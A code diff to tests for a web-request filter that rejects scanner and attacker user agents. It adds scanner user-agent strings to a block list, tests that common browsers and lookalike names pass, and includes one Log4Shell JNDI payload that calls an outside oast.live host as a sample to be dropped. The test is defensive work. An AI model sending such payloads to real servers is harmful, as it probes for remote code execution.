@@ -2,6 +2,7 @@ import assert from 'node:assert/strict'
 import { readFileSync } from 'node:fs'
 import { createRequire } from 'node:module'
 import { describe, test } from 'node:test'
+import browsers from 'top-user-agents'
 import { badAgent, scannerAgents } from '../../lib/index.ts'
 import { compileAgents } from '../../lib/match/agents.ts'
 import { brief, sites } from '../support/ask.ts'
@@ -36,6 +37,18 @@ describe('badAgent() by default', () => {
     'ZmEu',
     'Hello, World',
     'libredtail-http',
+    // crawler-user-agents 1.60.0
+    'air.ai/scanning Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) Chrome/126.0.0.0 Safari/537.36',
+    'Mozilla/5.0 (compatible; ModatScanner/1.2; +https://modat.io/)',
+    'RepoLookoutBot/v1.1.0-297-gcf436d3 (abuse reports to abuse@repo-lookout.org)',
+    'Mozilla/5.0 (compatible; WPSec/1.3; +https://wpsec.com)',
+    // The fixtures of matomo-org/device-detector, Tests/fixtures/bots.yml
+    'PunkMap (https://github.com/openeasm/punkmap)',
+    'Mozilla/5.0 (compatible; SnoopSecInspect/1.1; +https://snoopsec.us.to/)',
+    'Mozilla/5.0 (compatible; FreePBX-Scanner/1.0)',
+    'Mozilla/5.0 (compatible; NetScope-DomainScanner/1.0; security research scanner)',
+    // biome-ignore lint/suspicious/noTemplateCurlyInString: Log4Shell, as it is sent
+    '${jndi:ldap://${hostName}.useragent.xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx.oast.live}',
   ]
   for (const agent of bad) {
     test(`drops ${agent}`, async () => {
@@ -114,13 +127,31 @@ describe('badAgent() by default', () => {
       if (tags.includes('scanner') || !tags.some(tag => kinds.includes(tag))) continue
       for (const agent of instances) {
         checked++
-        // The list calls them academic and SEO; they scan the whole Internet.
+        // The list calls them academic, SEO and monitoring; they scan the whole Internet.
         const found = isScanner(agent)
-        if (found === 'InternetMeasurement' || found === 'getodin.com') continue
+        if (found && ['InternetMeasurement', 'getodin.com', 'ModatScanner', 'RepoLookoutBot'].includes(found))
+          continue
         assert.equal(found, undefined, agent)
       }
     }
     assert.ok(checked > 300, `${checked} agents`)
+  })
+
+  test('passes the browsers that are used most', () => {
+    assert.ok(browsers.length > 50)
+    for (const agent of browsers) assert.equal(isScanner(agent), undefined, agent)
+  })
+
+  test('passes what only looks like a name of the list', () => {
+    const alike = [
+      'fair.ai/scanning',
+      'WPSecScan/osv',
+      'PostPunkMap/1.0',
+      'MyModatScanners',
+      '$jndi:',
+      '{jndi:',
+    ]
+    for (const agent of alike) assert.equal(isScanner(agent), undefined, agent)
   })
 
   test('passes every agent of a real log but the empty ones', () => {
